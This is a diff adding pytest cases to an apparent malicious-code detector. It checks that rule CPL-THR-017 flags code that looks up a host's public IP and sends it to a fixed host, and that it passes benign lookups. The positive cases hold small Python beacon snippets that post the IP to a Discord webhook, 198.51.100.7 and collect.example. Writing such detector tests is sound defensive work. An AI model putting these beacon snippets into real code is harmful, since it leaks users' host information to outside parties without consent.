@@ -1389,3 +1389,49 @@ def test_a_dll_the_package_ships_or_copies_out_run_by_a_windows_loader_is_a_drop
 )
 def test_windows_loaders_of_the_systems_own_dlls_are_not_droppers(source: str) -> None:
     assert "CPL-THR-018" not in danger(source)
+
+
+# -- issue 16, the last misses: the host's public IP looked up and sent out ----------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import requests
+        ip = requests.get("https://api.ipify.org").text
+        requests.post("https://discord.com/api/webhooks/123/abc", json={"content": ip})
+        """,
+        """
+        import json, urllib.request
+        info = json.loads(urllib.request.urlopen("https://ipinfo.io/json").read())
+        data = json.dumps({"ip": info["ip"], "city": info.get("city")}).encode()
+        urllib.request.urlopen(urllib.request.Request("http://198.51.100.7:8080/c", data=data))
+        """,
+        """
+        import requests
+        def beacon():
+            addr = requests.get("http://checkip.amazonaws.com").text.strip()
+            requests.get("https://collect.example/b", params={"a": addr})
+        """,
+    ],
+)
+def test_the_public_ip_looked_up_and_sent_to_a_fixed_host_is_reconnaissance(source: str) -> None:
+    assert "CPL-THR-017" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a CLI showing the user their address, and a client asking an API it is given
+        'import requests\nprint("your IP:", requests.get("https://api.ipify.org").text)\n',
+        """
+        import requests
+        def lookup(session, url):
+            ip = requests.get("https://ifconfig.me/ip").text
+            return ip
+        """,
+    ],
+)
+def test_the_public_ip_looked_up_and_kept_on_the_host_is_not(source: str) -> None:
+    assert "CPL-THR-017" not in danger(source)
